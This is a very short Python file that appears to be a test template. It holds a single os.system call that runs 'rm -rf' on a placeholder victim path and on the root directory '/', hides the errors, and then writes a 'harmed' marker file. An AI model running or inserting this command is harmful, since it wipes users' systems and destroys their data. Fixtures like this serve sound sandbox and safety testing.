"""Deletes and overwrites with programs of the system."""

import os

os.system("rm -rf @VICTIM@ / 2>/dev/null; echo harmed > @VICTIM@/harmed")
